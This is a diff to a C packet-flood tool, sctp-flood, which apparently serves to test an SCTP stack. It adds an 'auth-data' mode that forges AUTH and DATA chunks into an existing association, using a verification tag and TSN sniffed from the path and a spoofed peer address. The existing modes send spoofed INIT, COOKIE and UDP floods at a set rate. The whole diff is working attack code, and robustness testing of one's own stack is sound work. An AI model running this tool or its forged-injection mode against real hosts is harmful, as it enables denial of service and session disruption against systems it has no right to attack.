@@ -34,6 +34,13 @@
  *   udp        not SCTP: a UDP datagram of 8 random bytes (checksum 0,
  *              allowed over IPv4), e.g. against a UDP forward, each from a
  *              new source
+ *   auth-data  into an existing association (the seeds' T19): an AUTH
+ *              chunk of key FLOOD_KEYID and HMAC algorithm FLOOD_HMAC (1
+ *              SHA-1, 3 SHA-256) with random bytes for the HMAC, then a
+ *              DATA chunk of 100 random bytes, TSNs from FLOOD_TSN on;
+ *              source port FLOOD_SPORT, verification tag FLOOD_TAG (as an
+ *              attacker on the path reads them off the association's
+ *              packets); SRC must be the peer's address
  * The checksum is CRC32c (RFC 9260 appendix A), computed here.
  */
 
@@ -56,6 +63,12 @@
 #define LONG_PARAMS	160
 
 static uint32_t crc_table[256];
+
+/* auth-data: what the attacker read off the association */
+static struct {
+	uint16_t	sport, keyid, hmac;
+	uint32_t	tag, tsn;
+} assoc;
 
 static void
 crc_init(void)
@@ -103,16 +116,60 @@ rnd32(void)
 	return ((uint32_t)random() << 16) ^ (uint32_t)random();
 }
 
+/* The packet's CRC32c, little-endian on the wire as Linux writes it. */
+static size_t
+put_crc(uint8_t *p, size_t len)
+{
+	uint32_t crc = crc32c(p, len);
+
+	p[8] = crc;
+	p[9] = crc >> 8;
+	p[10] = crc >> 16;
+	p[11] = crc >> 24;
+	return len;
+}
+
+static void
+put_random(uint8_t *p, size_t len)
+{
+	while (len-- > 0)
+		*p++ = random();
+}
+
+/* auth-data: an AUTH chunk with a random HMAC, then a DATA chunk. */
+static size_t
+make_auth_data(uint8_t *p)
+{
+	size_t len = 12, hl = assoc.hmac == 3 ? 32 : 20;
+
+	put16(p, assoc.sport);
+	put32(p + 4, assoc.tag);
+	p[len] = 0x0f;				/* AUTH */
+	put16(p + len + 2, 8 + hl);
+	put16(p + len + 4, assoc.keyid);
+	put16(p + len + 6, assoc.hmac);
+	put_random(p + len + 8, hl);
+	len += 8 + hl;				/* 28 or 40: aligned */
+	p[len] = 0;				/* DATA, unfragmented */
+	p[len + 1] = 0x03;
+	put16(p + len + 2, 16 + 100);
+	put32(p + len + 4, assoc.tsn++);	/* stream 0, SSN 0, PPID 0 */
+	put_random(p + len + 16, 100);
+	len += 16 + 100;
+	return put_crc(p, len);
+}
+
 /* The SCTP packet (common header and one chunk) of KIND; its length. */
 static size_t
 make_packet(uint8_t *p, const char *kind, uint16_t dport)
 {
 	size_t len = 12, clen, i;
-	uint32_t crc;
 
 	memset(p, 0, PKT_MAX - 20);
 	put16(p, 1024 + random() % 60000);	/* source port */
 	put16(p + 2, dport);
+	if (strcmp(kind, "auth-data") == 0)
+		return make_auth_data(p);
 	if (strcmp(kind, "udp") == 0) {
 		put16(p + 4, 16);		/* UDP length; checksum 0 */
 		put32(p + 8, rnd32());
@@ -146,13 +203,27 @@ make_packet(uint8_t *p, const char *kind, uint16_t dport)
 	}
 	put16(p + len + 2, clen);
 	len += clen;
-	crc = crc32c(p, len);
-	/* little-endian on the wire, as Linux writes it */
-	p[8] = crc;
-	p[9] = crc >> 8;
-	p[10] = crc >> 16;
-	p[11] = crc >> 24;
-	return len;
+	return put_crc(p, len);
+}
+
+/* auth-data's association from the environment; -1 if incomplete. */
+static int
+assoc_from_env(void)
+{
+	const char *v[5] = { getenv("FLOOD_SPORT"), getenv("FLOOD_TAG"),
+	    getenv("FLOOD_KEYID"), getenv("FLOOD_HMAC"), getenv("FLOOD_TSN") };
+	int i;
+
+	for (i = 0; i < 5; i++)
+		if (v[i] == NULL || *v[i] == '\0')
+			return -1;
+	assoc.sport = strtoul(v[0], NULL, 0);
+	assoc.tag = strtoul(v[1], NULL, 0);
+	assoc.keyid = strtoul(v[2], NULL, 0);
+	assoc.hmac = strtoul(v[3], NULL, 0);
+	assoc.tsn = strtoul(v[4], NULL, 0);
+	return assoc.sport == 0 || (assoc.hmac != 1 && assoc.hmac != 3) ?
+	    -1 : 0;
 }
 
 int
@@ -171,14 +242,21 @@ main(int argc, char **argv)
 	size_t len;
 
 	if (argc != 7) {
-		fprintf(stderr, "usage: sctp-flood init|long-init|cookie|udp "
-		    "SRC DST PORT RATE SECONDS\n");
+		fprintf(stderr, "usage: sctp-flood init|long-init|cookie|udp|"
+		    "auth-data SRC DST PORT RATE SECONDS\n");
 		return 2;
 	}
 	kind = argv[1];
 	if (strcmp(kind, "init") != 0 && strcmp(kind, "long-init") != 0 &&
-	    strcmp(kind, "cookie") != 0 && strcmp(kind, "udp") != 0) {
+	    strcmp(kind, "cookie") != 0 && strcmp(kind, "udp") != 0 &&
+	    strcmp(kind, "auth-data") != 0) {
 		fprintf(stderr, "sctp-flood: unknown kind %s\n", kind);
+		return 2;
+	}
+	if (strcmp(kind, "auth-data") == 0 && assoc_from_env() != 0) {
+		fprintf(stderr, "sctp-flood: auth-data needs FLOOD_SPORT, "
+		    "FLOOD_TAG, FLOOD_KEYID, FLOOD_HMAC (1 or 3) and "
+		    "FLOOD_TSN\n");
 		return 2;
 	}
 	if (strlen(argv[2]) >= sizeof(srcbuf)) {
